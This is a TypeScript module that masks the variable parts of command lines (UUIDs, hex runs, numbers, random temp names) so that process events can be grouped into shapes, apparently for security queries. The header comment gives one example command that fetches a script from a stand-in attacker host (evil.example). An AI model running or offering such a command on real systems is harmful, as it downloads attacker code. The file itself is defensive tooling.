/**
 * Command lines as shapes: the parts that change from run to run — UUIDs, hex runs, temporary
 * names and numbers — are masked, so that `sleep 37` and `sleep 12` are one shape
 * (`sleep <n>`) while `curl http://evil.example/x.sh` stays what it is. The executable and
 * every argument are masked one by one; the shape joins them as a shell would show them.
 */
import { literal, mask, pushPiece as push, type Piece } from './pieces';
import { isRandomName, isRandomToken } from './random-names';

/**
 * IPv4 addresses (kept: an address names a peer, it does not count anything), UUIDs, hex runs
 * (`0x…`, or 8+ hex digits with a digit), alphanumeric runs, digit runs.
 */
const TOKEN =
  /(?<![\d.])\d{1,3}(?:\.\d{1,3}){3}(?![\d.])|[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}|0x[0-9a-f]+|[A-Za-z0-9]+/gi;
const IPV4 = /^\d{1,3}(?:\.\d{1,3}){3}$/;
const UUID = /^[0-9a-f]{8}-/i;
const HEX_RUN = /^(0x[0-9a-f]+|[0-9a-f]{8,})$/i;

/** Masks of one word that is all letters and digits, or undefined when it stays as it is. */
function wordMask(word: string): Piece | undefined {
  if (IPV4.test(word)) return undefined;
  if (UUID.test(word) && word.length === 36) return mask('uuid');
  if (/^\d+$/.test(word)) return mask('n');
  if (HEX_RUN.test(word) && /\d/.test(word)) return mask('hex');
  if (isRandomToken(word)) return mask('tmp');
  return undefined;
}

/** Masks a path segment that is a generated name (`tmp.k3J9xQ2a`) whole. */
function maskSegments(text: string, out: Piece[]): void {
  const segments = text.split('/');
  segments.forEach((segment, i) => {
    if (i > 0) push(out, literal('/'));
    if (segment !== '' && segment.length <= 64 && isRandomName(segment) && /\D/.test(segment)) {
      push(out, mask('tmp'));
    } else {
      maskWords(segment, out);
    }
  });
}

function maskWords(text: string, out: Piece[]): void {
  let at = 0;
  for (const match of text.matchAll(TOKEN)) {
    const word = match[0];
    const start = match.index;
    const masked = wordMask(word);
    if (masked === undefined) continue;
    if (start > at) push(out, literal(text.slice(at, start)));
    push(out, masked);
    at = start + word.length;
  }
  if (at < text.length) push(out, literal(text.slice(at)));
}

/** One argument (or the executable) as pieces. */
export function maskArgument(text: string): Piece[] {
  const out: Piece[] = [];
  if (text.includes('/')) maskSegments(text, out);
  else maskWords(text, out);
  return out;
}

/** An argument as a shell shows it: quoted when it is empty or holds blanks or quotes. */
function shellWord(pieces: readonly Piece[]): Piece[] {
  const plain = pieces.map((p) => ('literal' in p ? p.literal : 'x')).join('');
  if (plain !== '' && !/[\s'"\\]/.test(plain)) return [...pieces];
  const quoted: Piece[] = [literal("'")];
  for (const p of pieces) {
    push(quoted, 'literal' in p ? literal(p.literal.replaceAll("'", "'\\''")) : p);
  }
  push(quoted, literal("'"));
  return quoted;
}

export interface CommandShape {
  /** The executable's pieces (for the query's executable term). */
  readonly executable: readonly Piece[];
  /** The whole command line as pieces (for the text shown). */
  readonly pieces: readonly Piece[];
  /** Each argument's pieces (for the query's `@process.args` terms). */
  readonly args: readonly (readonly Piece[])[];
}

/**
 * The shape of `executable args…`; `isCut` (the arguments go on past what is known) ends it
 * with ` …`.
 */
export function commandShape(
  executable: string,
  args: readonly string[],
  isCut: boolean,
  mask: (text: string) => readonly Piece[] = maskArgument,
): CommandShape {
  const maskedArgs = args.map(mask);
  const maskedExecutable = mask(executable);
  const pieces: Piece[] = [];
  for (const p of maskedExecutable) push(pieces, p);
  for (const arg of maskedArgs) {
    push(pieces, literal(' '));
    for (const p of shellWord(arg)) push(pieces, p);
  }
  if (isCut) push(pieces, literal(' …'));
  return { executable: maskedExecutable, pieces, args: maskedArgs };
}

/**
 * `maskArgument` remembering its answers: the command lines of one data set share most of
 * their arguments (`-c`, `-s`, paths), each is masked once.
 */
export function rememberingMask(): (text: string) => readonly Piece[] {
  const known = new Map<string, readonly Piece[]>();
  return (text) => {
    let pieces = known.get(text);
    if (pieces === undefined) known.set(text, (pieces = maskArgument(text)));
    return pieces;
  };
}
